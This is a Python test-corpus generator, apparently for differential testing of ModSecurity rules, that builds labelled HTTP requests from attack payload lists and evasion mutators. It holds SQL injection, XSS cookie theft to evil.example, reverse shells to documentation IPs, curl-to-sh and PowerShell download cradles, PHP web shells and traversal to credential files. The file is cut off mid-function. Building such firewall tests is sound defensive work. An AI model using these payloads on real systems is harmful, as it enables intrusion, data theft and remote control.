#!/usr/bin/env python3
"""Seeded generator of labelled HTTP requests for the ModSecurity differential test.

    python3 oracle/corpus.py --seed 1 --count 3000 [--classes sqli,xss,...] > corpus.jsonl

One JSON object a line::

    {"id": 1, "class": "sqli", "place": "query-value", "encoding": "strict",
     "method": "GET", "uri": "/v1/dealers?postcode=1%27%20OR%201%3D1--",
     "version": "1.1", "headers": [["Host", "api.automaker.example"], ...],
     "body": null}

- ``uri`` is path and query exactly as sent on the wire: percent-encoded, only
  printable ASCII (0x21-0x7e).
- ``headers`` is an ordered list of [name, value]; values are printable ASCII.
  ``Host`` is always there except in the ``protocol`` lines that test its
  absence; ``Content-Type`` and ``Content-Length`` (the UTF-8 byte length of
  ``body``) come with every body except in the lines that test their absence
  or a wrong value.
- ``body`` is a string (sent UTF-8 encoded) or null.
- ``place`` says where the payload sits (query-value, query-name, path, cookie,
  referer, user-agent, header, form, json, json-key, raw-body, multipart-value,
  multipart-filename, xml, request for whole-request anomalies; ``-`` for
  benign lines) and ``encoding`` how it was encoded on the wire.

Classes: attacks ``sqli xss rce-unix rce-windows lfi rfi php java nodejs
session-fixation protocol scanner restricted-file`` (about 60% of lines) and
benign ``benign-retail benign-dealer`` (about 40%): an automaker's retail and
dealer API traffic, with the free text, names, addresses and identifiers such
APIs really carry. Benign lines use only the methods and content types that
the CRS allows by default (GET, HEAD, POST, OPTIONS; form, multipart, JSON,
XML).

Attack payloads come from written seeds, from small grammars that combine
fragments, from mutations (case, inserted comments, doubled keywords, other
whitespace) and from re-encodings (percent, double percent, ``+``, ``%uXXXX``,
overlong UTF-8, HTML entities). The output is a pure function of ``--seed``,
``--count`` and ``--classes`` (one ``random.Random(seed)``; no hashing or set
order is involved).
"""

from __future__ import annotations

import argparse
import json
import os
import random
import string
import sys

# --------------------------------------------------------------------------- classes

ATTACK_WEIGHTS = {
    "sqli": 10,
    "xss": 9,
    "rce-unix": 6,
    "rce-windows": 4,
    "lfi": 6,
    "rfi": 3,
    "php": 5,
    "java": 4,
    "nodejs": 3,
    "session-fixation": 2,
    "protocol": 4,
    "scanner": 2,
    "restricted-file": 2,
}
BENIGN_WEIGHTS = {"benign-retail": 24, "benign-dealer": 16}
CLASSES = list(ATTACK_WEIGHTS) + list(BENIGN_WEIGHTS)

# --------------------------------------------------------------------------- wire encoding

_HEX_UPPER = "0123456789ABCDEF"
_HEX_LOWER = "0123456789abcdef"
_UNRESERVED = frozenset(string.ascii_letters.encode() + string.digits.encode() + b"-._~")


def _table(keep: bytes = b"", space: str | None = None, lower: bool = False) -> tuple[str, ...]:
    hexd = _HEX_LOWER if lower else _HEX_UPPER
    out = []
    for b in range(256):
        if b in _UNRESERVED or b in keep:
            out.append(chr(b))
        elif b == 0x20 and space is not None:
            out.append(space)
        else:
            out.append("%" + hexd[b >> 4] + hexd[b & 15])
    return tuple(out)


# Printable characters a careless client or an attack tool sends unencoded in a query.
_LOOSE_KEEP = b"!$'()*,/:;@[]^`{|}<>\"\\?"
T_STRICT = _table()
T_STRICT_LOWER = _table(lower=True)
T_FORM = _table(b"*", "+")
T_LOOSE = _table(_LOOSE_KEEP, "+")
T_LOOSE_20 = _table(_LOOSE_KEEP)
T_PATH = _table(b"!$'()*,;:@")
T_PATH_RAW = _table(b"!$'()*,;:@/<>\"{}|\\^`[]")
T_COOKIE = _table(b"!#$&'()*+-./:<=>?@[]^_`{|}~\"\\,")  # all printable but space, ';' and '%'
T_HEADER = _table(bytes(range(0x20, 0x7F)))  # printable ASCII stays, the rest %XX


def enc(table: tuple[str, ...], text: str) -> str:
    """Percent-encode ``text`` (as UTF-8) with a byte table."""
    return "".join([table[b] for b in text.encode("utf-8")])


def pct_unicode(rng: random.Random, text: str) -> str:
    """IIS-style ``%uXXXX`` for the characters that matter, strict %XX for the rest."""
    out = []
    for ch in text:
        if ch in "<>'\"()/\\;=&|`$ " and rng.random() < 0.8:
            out.append("%%u%04x" % ord(ch) if rng.random() < 0.5 else "%%u%04X" % ord(ch))
        else:
            out.append(enc(T_STRICT, ch))
    return "".join(out)


def pct_fullwidth(rng: random.Random, text: str) -> str:
    """Full-width forms (U+FF01-FF5E) as %uFFxx for ASCII punctuation and letters."""
    out = []
    for ch in text:
        o = ord(ch)
        if 0x21 <= o <= 0x7E and (not ch.isalnum() or rng.random() < 0.3):
            out.append("%%uff%02x" % (o - 0x20))
        else:
            out.append(enc(T_STRICT, ch))
    return "".join(out)


def pct_overlong(text: str) -> str:
    """Overlong UTF-8 for '.', '/' and '\\' (classic traversal evasion), %XX for others."""
    return "".join(
        {".": "%c0%ae", "/": "%c0%af", "\\": "%c1%9c"}.get(ch) or enc(T_STRICT, ch) for ch in text
    )


QUERY_ENCODINGS = (
    ("strict", 30),
    ("form", 20),
    ("loose", 22),
    ("lower-hex", 6),
    ("double", 8),
    ("unicode", 6),
    ("fullwidth", 2),
    ("encode-all", 6),
)


def encode_value(rng: random.Random, text: str, mode: str) -> str:
    """Encode a query/form value according to ``mode`` (see QUERY_ENCODINGS)."""
    if mode == "strict":
        return enc(T_STRICT, text)
    if mode == "form":
        return enc(T_FORM, text)
    if mode == "loose":
        return enc(T_LOOSE if rng.random() < 0.5 else T_LOOSE_20, text)
    if mode == "lower-hex":
        return enc(T_STRICT_LOWER, text)
    if mode == "double":
        return enc(T_STRICT, enc(T_STRICT, text))
    if mode == "unicode":
        return pct_unicode(rng, text)
    if mode == "fullwidth":
        return pct_fullwidth(rng, text)
    if mode == "encode-all":
        return "".join("%%%02X" % b for b in text.encode("utf-8"))
    if mode == "overlong":
        return pct_overlong(text)
    raise ValueError(mode)


def weighted(rng: random.Random, pairs) -> str:
    total = sum(w for _, w in pairs)
    pick = rng.random() * total
    for value, w in pairs:
        pick -= w
        if pick < 0:
            return value
    return pairs[-1][0]


def html_entities(rng: random.Random, text: str, share: float = 0.6) -> str:
    """Replace some characters by HTML character references (decimal, hex or named)."""
    named = {"<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;", "&": "&amp;", ":": "&colon;", "(": "&lpar;", ")": "&rpar;"}
    out = []
    for ch in text:
        if ch.isspace() or rng.random() > share:
            out.append(ch)
            continue
        r = rng.random()
        if r < 0.4:
            out.append("&#%d;" % ord(ch))
        elif r < 0.75:
            out.append("&#x%x;" % ord(ch))
        elif ch in named:
            out.append(named[ch])
        else:
            out.append("&#%07d;" % ord(ch))
    return "".join(out)


# --------------------------------------------------------------------------- mutations


def random_case(rng: random.Random, text: str, share: float = 0.5) -> str:
    return "".join(c.swapcase() if c.isalpha() and rng.random() < share else c for c in text)


def replace_spaces(rng: random.Random, text: str, options) -> str:
    choice = rng.choice(options)
    return text.replace(" ", choice) if rng.random() < 0.7 else "".join(
        rng.choice(options) if c == " " else c for c in text
    )


SQL_KEYWORDS = ("SELECT", "UNION", "FROM", "WHERE", "AND", "OR", "SLEEP", "ORDER", "INSERT", "DROP", "CONCAT")


def mutate_sql(rng: random.Random, text: str) -> str:
    r = rng.random()
    if r < 0.3:
        return random_case(rng, text)
    if r < 0.55:
        return replace_spaces(rng, text, ("/**/", "\t", "\n", "\r\n", "/*x*/", "  ", "\x0b", "/*!*/", "\u00a0"))
    if r < 0.7:
        for kw in SQL_KEYWORDS:
            if kw in text and rng.random() < 0.6:
                text = text.replace(kw, "/*!50000%s*/" % kw if rng.random() < 0.5 else kw[:2] + "/**/" + kw[2:], 1)
        return text
    if r < 0.85:
        for kw in SQL_KEYWORDS:
            if kw in text and rng.random() < 0.6:
                half = len(kw) // 2
                text = text.replace(kw, kw[:half] + kw + kw[half:], 1)
        return text
    return random_case(rng, replace_spaces(rng, text, ("/**/", "+", "%20", "\t")), 0.3)


def mutate_xss(rng: random.Random, text: str) -> str:
    r = rng.random()
    if r < 0.35:
        return random_case(rng, text, 0.4)
    if r < 0.55:
        return text.replace(" ", rng.choice(("/", "\t", "\n", "\x0c", "/x/", " /")), 1)
    if r < 0.7:
        return text.replace("script", rng.choice(("scr<script>ipt", "ScRiPt", "script ", "scri\x00pt")), 1)
    if r < 0.85 and "alert" in text:
        return text.replace("alert", rng.choice(("al\\u0065rt", "window['al'+'ert']", "top[/al/.source+/ert/.source]", "self['\\x61lert']", "(alert)", "confirm")), 1)
    return html_entities(rng, text, 0.3)


def mutate_shell(rng: random.Random, text: str) -> str:
    r = rng.random()
    if r < 0.3:
        return text.replace(" ", rng.choice(("${IFS}", "$IFS", "\t", "${IFS%??}", "<")))
    if r < 0.5:
        for word in ("cat", "id", "whoami", "uname", "wget", "curl", "nc", "bash", "sh", "passwd", "ls"):
            if word in text and rng.random() < 0.5:
                cut = rng.randrange(1, len(word)) if len(word) > 1 else 1
                sep = rng.choice(("''", '""', "\\", "$@", "$()"))
                text = text.replace(word, word[:cut] + sep + word[cut:], 1)
        return text
    if r < 0.65:
        return text.replace("/etc/passwd", rng.choice(("/e??/p?sswd", "/etc/pass*", "/e*c/pa*wd", "/etc//passwd", "/etc/./passwd")))
    if r < 0.75:
        return text.replace("/bin/", rng.choice(("/???/", "/b??/", "/usr/bin/", "/bin//")))
    return text


def mutate_windows(rng: random.Random, text: str) -> str:
    r = rng.random()
    if r < 0.4:
        return random_case(rng, text, 0.4)
    if r < 0.6:
        return text.replace(" ", rng.choice(("  ", ",", ";", "\t")), 1)
    if r < 0.75:
        for word in ("cmd", "powershell", "whoami", "dir", "type"):
            if word in text:
                text = text.replace(word, "^".join(word), 1)
                break
        return text
    return text


# --------------------------------------------------------------------------- attack payloads

SQLI_SEEDS = (
    "' OR '1'='1",
    "' OR 1=1--",
    "1 OR 1=1",
    "admin'--",
    "admin' #",
    "' OR 'a'='a' -- -",
    "') OR ('1'='1",
    "1)) OR ((1=1",
    "\" OR \"\"=\"",
    "1' AND 1=2 UNION SELECT username, password FROM users--",
    "-1 UNION ALL SELECT NULL,NULL,version()--",
    "0 UNION SELECT 1,@@version,3,4#",
    "1' UNION SELECT table_name,2 FROM information_schema.tables WHERE table_schema=database()--",
    "' UNION SELECT column_name FROM information_schema.columns WHERE table_name='users'--",
    "1; DROP TABLE orders--",
    "1'; DROP TABLE customers; --",
    "'; EXEC xp_cmdshell('dir c:\\')--",
    "1; EXEC master..xp_cmdshell 'ping 127.0.0.1'--",
    "1' AND SLEEP(5)--",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "1' WAITFOR DELAY '0:0:5'--",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "' OR pg_sleep(5)--",
    "1;SELECT pg_sleep(10)",
    "' AND extractvalue(1,concat(0x7e,(select user())))--",
    "1' AND updatexml(1,concat(0x7e,version()),1)-- -",
    "1' ORDER BY 10--",
    "1' GROUP BY 1,2,3 HAVING 1=1--",
    "' || (SELECT CASE WHEN 1=1 THEN 1 ELSE 1/0 END) || '",
    "1' and substring(@@version,1,1)='5",
    "x' AND ascii(substr((select password from users limit 1),1,1))>64--",
    "'; INSERT INTO users (name, role) VALUES ('eve','admin')--",
    "1 UNION SELECT load_file('/etc/passwd')",
    "' UNION SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/s.php'--",
    "' OR 1 LIKE 1",
    "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--",
    "'+(select @@version)+'",
    "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))",
    "1' AND (SELECT COUNT(*) FROM all_users)>0--",
    "' UNION SELECT NULL FROM dual--",
    "1' AND '1'='1' /*",
    "') UNION SELECT sqlite_version()--",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1' AND 1=(SELECT 1 FROM pg_tables LIMIT 1)--",
    "admin' AND 1=0 UNION SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'--",
    "1; UPDATE users SET password='x' WHERE name='admin'--",
    "' HAVING 1=1--",
    "1' AND char(65)||char(66)='AB",
    "'; SHUTDOWN WITH NOWAIT;--",
    "1 OR sleep(5)#",
    "' OR '1'='1' LIMIT 1 OFFSET 1 --",
    "1' OR '1'='1'; SELECT * FROM users WHERE 'a'='a",
    "{\"$ne\": null}",
    "{\"$gt\": \"\"}",
    "true, $where: '1 == 1'",
    "'; return db.users.find(); var x='",
)

SQL_CLOSERS = ("'", "'", "\"", "')", "'))", ")", "", "", "1'", "x'", "-1'", "1\"", "1)")
SQL_COLS = ("NULL", "NULL,NULL", "1,2,3", "1,2,3,4,5", "username,password", "user(),database()", "version(),2", "@@version,NULL", "concat(user,0x3a,password)", "group_concat(table_name)")
SQL_TABLES = ("users", "orders", "customers", "information_schema.tables", "mysql.user", "dual", "accounts", "pg_shadow", "sysobjects")


def sqli_grammar(rng: random.Random) -> str:
    closer = rng.choice(SQL_CLOSERS)
    kind = rng.randrange(6)
    if kind == 0:
        core = rng.choice(("OR 1=1", "OR 'x'='x'", "OR 2>1", "OR true", "|| 1=1", "OR 1 LIKE 1", "AND 1=0", "OR 'a'<>'b'", "OR 3-1=2", "OR 0x41=0x41"))
    elif kind == 1:
        core = "UNION %sSELECT %s" % (rng.choice(("", "ALL ", "DISTINCT ")), rng.choice(SQL_COLS))
        if rng.random() < 0.6:
            core += " FROM " + rng.choice(SQL_TABLES)
    elif kind == 2:
        core = "; " + rng.choice((
            "DROP TABLE %s" % rng.choice(SQL_TABLES[:3]),
            "SELECT SLEEP(%d)" % rng.randint(2, 20),
            "DELETE FROM %s" % rng.choice(SQL_TABLES[:3]),
            "UPDATE users SET role='admin'",
            "EXEC xp_cmdshell 'whoami'",
            "SELECT pg_sleep(%d)" % rng.randint(2, 20),
            "TRUNCATE TABLE orders",
        ))
    elif kind == 3:
        core = rng.choice((
            "AND SLEEP(%d)" % rng.randint(2, 30),
            "AND BENCHMARK(%d,SHA1(1))" % rng.choice((100000, 5000000)),
            "WAITFOR DELAY '0:0:%d'" % rng.randint(2, 30),
            "AND pg_sleep(%d)" % rng.randint(2, 30),
            "OR IF(1=1,SLEEP(5),0)",
            "AND (SELECT * FROM (SELECT(SLEEP(%d)))x)" % rng.randint(2, 9),
        ))
    elif kind == 4:
        core = rng.choice((
            "AND extractvalue(1,concat(0x5c,(SELECT %s)))" % rng.choice(("user()", "database()", "version()")),
            "AND updatexml(null,concat(0x0a,version()),null)",
            "AND 1=CAST((SELECT version()) AS int)",
            "AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users LIMIT 0,1),1,1))>64",
            "AND (SELECT substring(concat(1,password),1,1) FROM users LIMIT 1)=1",
            "AND length(database())>5",
            "AND ascii(lower(substring((select top 1 name from sysobjects),1,1)))>96",
        ))
    else:
        core = rng.choice(("ORDER BY %d" % rng.randint(1, 30), "GROUP BY 1 HAVING 1=1", "LIMIT 1 INTO OUTFILE '/tmp/x'", "PROCEDURE ANALYSE()"))
    comment = rng.choice(("--", "-- -", "#", "/*", ";--", "", "", "--+", ";%00"))
    if comment == ";%00":
        comment = ";\x00"
    lead = "" if closer == "" and kind != 2 else " "
    if kind == 2:
        lead = ""
    text = (closer + lead + core + (" " if comment else "") + comment).strip()
    if closer == "" and not text[0].isdigit() and kind != 2:
        text = rng.choice(("1 ", "-1 ", "0 ")) + text
    return text


XSS_SEEDS = (
    "<script>alert(1)</script>",
    "<script>alert(document.cookie)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>fetch('//evil.example/c?'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    "<svg onload=alert(document.domain)>",
    "<svg/onload=confirm`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=prompt(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    "'-alert(1)-'",
    "\";alert(1);//",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<base href=\"javascript:alert(1)//\">",
    "<form action=javascript:alert(1)><input type=submit>",
    "<div style=\"width:expression(alert(1))\">",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "document.write('<img src=//evil.example/'+document.cookie+'>')",
    "vbscript:msgbox(1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<link rel=import href=//evil.example/x>",
    "<table background=\"javascript:alert(1)\">",
    "<isindex type=image src=1 onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<img src=`x` onerror=alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
    "window.location='//evil.example/?'+document.cookie",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
)

XSS_TAGS = ("img", "svg", "body", "iframe", "input", "details", "video", "audio", "a", "div", "marquee", "x", "select", "textarea", "keygen", "object")
XSS_EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onmouseenter", "onauxclick", "onwheel")
XSS_JS = ("alert(1)", "confirm(1)", "prompt(document.domain)", "alert`1`", "eval(name)", "fetch('//evil.example/?c='+document.cookie)", "top['al'+'ert'](1)", "window.location='//evil.example'", "import('//evil.example/m.js')", "document.location=atob('Ly9ldmlsLmV4YW1wbGU=')", "new Image().src='//evil.example/?'+document.cookie")
XSS_BREAKOUTS = ("", "", "\">", "'>", "</title>", "</textarea>", "--!>", "</script>", "\" ", "' ")


def xss_grammar(rng: random.Random) -> str:
    kind = rng.randrange(4)
    js = rng.choice(XSS_JS)
    if kind == 0:
        sep = rng.choice((" ", "/", "\t", "\n", "/x/", " "))
        tag = rng.choice(XSS_TAGS)
        attr = "" if tag not in ("img", "video", "audio", "input", "iframe") else rng.choice(("src=x ", "src=1 ", "autofocus ", ""))
        q = rng.choice(("", "\"", "'"))
        text = "<%s%s%s%s=%s%s%s>" % (tag, sep, attr, rng.choice(XSS_EVENTS), q, js, q)
    elif kind == 1:
        text = "<script%s>%s</script>" % (rng.choice(("", " type=text/javascript", " ", "/x")), js)
    elif kind == 2:
        scheme = rng.choice(("javascript:", "JAVASCRIPT:", "java\tscript:", "javascript&colon;", " javascript:", "vbscript:"))
        tag = rng.choice(("a href", "iframe src", "form action", "object data", "embed src", "math href", "button formaction"))
        text = "<%s=\"%s%s\">" % (tag, scheme, js)
    else:
        text = rng.choice(("\";%s;//", "';%s;'", "'-%s-'", "\\\";%s//", "</script><script>%s</script>", "${%s}")) % js
        return rng.choice(XSS_BREAKOUTS[:2]) + text
    return rng.choice(XSS_BREAKOUTS) + text


UNIX_SEEDS = (
    ";cat /etc/passwd",
    "| id",
    "|| whoami",
    "&& uname -a",
    "`id`",
    "$(id)",
    "$(curl -s http://evil.example/x.sh|sh)",
    ";wget http://evil.example/a -O /tmp/a;chmod +x /tmp/a;/tmp/a",
    "| nc -e /bin/sh 198.51.100.7 4444",
    "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "127.0.0.1; ls -la /",
    "x;/bin/sh -c 'id'",
    "() { :; }; /bin/bash -c 'cat /etc/shadow'",
    "() { ignored;}; echo; /usr/bin/id",
    ";python3 -c 'import os;os.system(\"id\")'",
    ";perl -e 'exec \"/bin/sh\"'",
    "|busybox nc 198.51.100.7 9001 -e sh",
    "; ping -c 10 127.0.0.1",
    "$(sleep 5)",
    "`sleep 10`",
    "; rm -rf /tmp/*",
    "\nid",
    "a\ncat /etc/passwd",
    ";{cat,/etc/passwd}",
    ";c'a't /e't'c/pa's's'wd",
    ";/???/c?t /???/p??s??",
    ";cat$IFS/etc/passwd",
    "| tail -n 50 /var/log/auth.log",
    "; echo c2ggLWkK | base64 -d | sh",
    "&& curl http://evil.example/$(whoami)",
    "; nslookup $(hostname).evil.example",
    "|| ncat 198.51.100.7 443 -e /bin/bash",
    "; socat tcp:203.0.113.5:4444 exec:sh",
    "; crontab -l",
    "; chmod 777 /var/www",
    "$(printf '\\x69\\x64')",
    "; find / -perm -4000 2>/dev/null",
    "file.txt;ls",
    "report.pdf | cat /etc/hosts",
    "; /usr/bin/env",
    "%0a/bin/cat /etc/passwd",
    "; ps aux",
    "|${HOME:0:1}bin${HOME:0:1}sh",
)
UNIX_SEPS = (";", "|", "||", "&&", "&", "\n", ";\n", "\r\n")
UNIX_CMDS = (
    "id", "whoami", "uname -a", "cat /etc/passwd", "cat /etc/shadow", "ls -la /", "curl http://evil.example/s.sh | sh",
    "wget -qO- http://evil.example/s | sh", "nc -e /bin/sh 198.51.100.7 4444", "sleep %d", "ping -c %d 127.0.0.1",
    "echo vulnerable", "env", "ps -ef", "head /etc/passwd", "/bin/bash -c id", "tftp -i 203.0.113.5 GET x", "chmod +x /tmp/x",
)
UNIX_PREFIXES = ("", "", "127.0.0.1", "file.txt", "x", "1", "vela-e", "localhost")


def unix_grammar(rng: random.Random) -> str:
    cmd = rng.choice(UNIX_CMDS)
    if "%d" in cmd:
        cmd = cmd % rng.randint(3, 20)
    r = rng.random()
    prefix = rng.choice(UNIX_PREFIXES)
    if r < 0.6:
        return prefix + rng.choice(UNIX_SEPS) + rng.choice(("", " ")) + cmd
    if r < 0.8:
        return prefix + "$(" + cmd + ")"
    return prefix + "`" + cmd + "`"


WINDOWS_SEEDS = (
    "& dir c:\\",
    "| type C:\\Windows\\win.ini",
    "&& net user",
    "&& net user hacker P@ss1 /add",
    "| whoami /all",
    "; cmd.exe /c ipconfig /all",
    "| cmd /c \"echo owned > c:\\inetpub\\wwwroot\\x.txt\"",
    "| powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "powershell.exe -Command \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"",
    "& certutil -urlcache -split -f http://evil.example/a.exe a.exe",
    "& ping -n 10 127.0.0.1",
    "%COMSPEC% /c dir",
    "& for /f %i in ('whoami') do echo %i",
    "| Invoke-Expression (iwr http://evil.example/p)",
    "; Get-ChildItem C:\\Users -Recurse",
    "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "& systeminfo",
    "| tasklist /v",
    "&& wmic process call create calc.exe",
    "& bitsadmin /transfer job http://evil.example/x.exe c:\\users\\public\\x.exe",
    "& mshta http://evil.example/x.hta",
    "& copy \\\\evil.example\\share\\a.exe %TEMP%\\a.exe",
    "| powershell Start-Process calc",
    "& net localgroup administrators",
    "&& del /f /q c:\\windows\\temp\\*",
    "| cscript //nologo c:\\temp\\x.vbs",
    "& rundll32.exe url.dll,FileProtocolHandler calc.exe",
    "& schtasks /create /tn x /tr c:\\x.exe /sc onstart",
    "| more c:\\boot.ini",
    "&& sc query",
    "| Get-Content C:\\Windows\\System32\\drivers\\etc\\hosts",
    "; iex(New-Object System.Net.WebClient).DownloadString('http://evil.example/x')",
    "c:\\windows\\system32\\cmd.exe /c whoami",
    "& regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
    "& powershell -ExecutionPolicy Bypass -File \\\\evil.example\\s\\x.ps1",
)
WINDOWS_CMDS = ("dir", "whoami", "ipconfig /all", "net user", "type c:\\windows\\win.ini", "systeminfo", "tasklist", "cmd /c ver", "powershell -c Get-Process", "ping -n 5 127.0.0.1", "net view", "hostname")


def windows_grammar(rng: random.Random) -> str:
    sep = rng.choice(("&", "&&", "|", "||", "\n", "%0a"))
    if sep == "%0a":
        sep = "\n"
    cmd = rng.choice(WINDOWS_CMDS)
    if rng.random() < 0.3:
        cmd = rng.choice(("cmd.exe /c ", "cmd /k ", "powershell -c ", "c:\\windows\\system32\\cmd.exe /c ")) + cmd
    return rng.choice(("", "", "127.0.0.1", "x", "report.docx")) + sep + rng.choice(("", " ")) + cmd


LFI_TARGETS = (
    "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "proc/self/environ", "proc/self/cmdline", "proc/version",
    "var/log/apache2/access.log", "var/log/nginx/error.log", "root/.ssh/id_rsa", "root/.bash_history",
    "windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini", "WEB-INF/web.xml", "etc/issue",
    "usr/local/etc/php.ini", "var/www/html/.env", "home/ubuntu/.aws/credentials", "etc/mysql/my.cnf",
)
LFI_SEEDS = (
    "../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "/etc/shadow",
    "../../../../proc/self/environ",
    "/proc/self/cmdline",
    "file:///etc/passwd",
    "C:\\boot.ini",
    "..;/..;/WEB-INF/web.xml",
    "/WEB-INF/web.xml",
    "../../../../var/www/html/.env",
    "../../../../etc/passwd\x00.png",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "..%252f..%252fetc%252fpasswd",
    "/var/log/apache2/access.log",
    "....\\\\....\\\\windows\\\\win.ini",
    "/../../../../../../../../etc/hosts",
    "../" * 12 + "etc/passwd",
    "/static/../../../etc/passwd",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
)


def lfi_grammar(rng: random.Random) -> str:
    depth = rng.randint(2, 10)
    step = rng.choice(("../", "../", "..\\", "....//", "..//", "..;/", "./../", "..\\/"))
    target = rng.choice(LFI_TARGETS)
    if "\\" in step:
        target = target.replace("/", "\\")
    lead = rng.choice(("", "", "/", "images/", "templates/", "./"))
    tail = rng.choice(("", "", "", "\x00", "\x00.jpg", "%00", "?", "#"))
    return lead + step * depth + target + tail


RFI_HOSTS = ("evil.example", "203.0.113.9", "198.51.100.23", "attacker.example.net", "192.0.2.77", "pastebin.example", "203.0.113.200:8080")
RFI_FILES = ("shell.txt", "r57.php", "c99.txt", "x.txt", "backdoor.php", "id.txt", "inc/cmd.gif", "payload")


def rfi_payload(rng: random.Random) -> str:
    scheme = rng.choice(("http://", "http://", "https://", "ftp://", "HTTP://", "ftps://", "//"))
    host = rng.choice(RFI_HOSTS)
    path = rng.choice(RFI_FILES)
    tail = rng.choice(("?", "?", "??", "?&cmd=id", "%00", "\x00", "", "?x=", "#"))
    return scheme + host + "/" + path + tail


PHP_SEEDS = (
    "<?php system($_GET['c']); ?>",
    "<?php echo shell_exec($_REQUEST['cmd']); ?>",
    "<?= `id` ?>",
    "<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); ?>",
    "<?php phpinfo(); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://input",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "expect://id",
    "phar://uploads/avatar.jpg/shell",
    "zip://uploads/x.jpg#shell.php",
    "glob:///var/www/*",
    "system('id');",
    "passthru('ls -la');",
    "shell_exec('whoami');",
    "exec('cat /etc/passwd', $o);",
    "eval($_POST['x']);",
    "assert($_REQUEST['a']);",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:2:{i:0;O:4:\"Evil\":1:{s:3:\"cmd\";s:2:\"id\";}i:1;s:1:\"x\";}",
    "O:21:\"Illuminate\\Broadcasting\":0:{}",
    "${@phpinfo()}",
    "$_SERVER['DOCUMENT_ROOT']",
    "$_GET[0]($_GET[1])",
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    "<?php echo file_get_contents('/etc/passwd'); ?>",
    "preg_replace('/.*/e','system(\"id\")','')",
    "(system)('id')",
    "$f='sys'.'tem';$f('id');",
    "call_user_func('system','id')",
    "file_put_contents('x.php','<?php system($_GET[c]);')",
    "include($_GET['p']);",
    "highlight_file('/etc/passwd');",
    "proc_open('id',array(),$p);",
    "popen('id','r');",
    "<?php fputs(fopen('s.php','w'),'<?php eval($_POST[1]);?>'); ?>",
    "base64_decode($_COOKIE['p'])",
    "<script language=\"php\">system('id');</script>",
    "$_FILES['f']['tmp_name']",
    "{${system(id)}}",
    "ini_set('disable_functions','')",
)
PHP_FUNCS = ("system", "exec", "passthru", "shell_exec", "popen", "proc_open", "assert", "eval", "pcntl_exec", "file_get_contents", "fsockopen", "base64_decode", "str_rot13", "create_function", "unserialize")
PHP_ARGS = ("'id'", "$_GET['c']", "$_POST[0]", "\"whoami\"", "'cat /etc/passwd'", "$_REQUEST['x']", "base64_decode('aWQ=')")


def php_grammar(rng: random.Random) -> str:
    call = "%s%s(%s)" % (rng.choice(PHP_FUNCS), rng.choice(("", "", " ", "\t")), rng.choice(PHP_ARGS))
    r = rng.random()
    if r < 0.4:
        return "<?php %s; ?>" % call
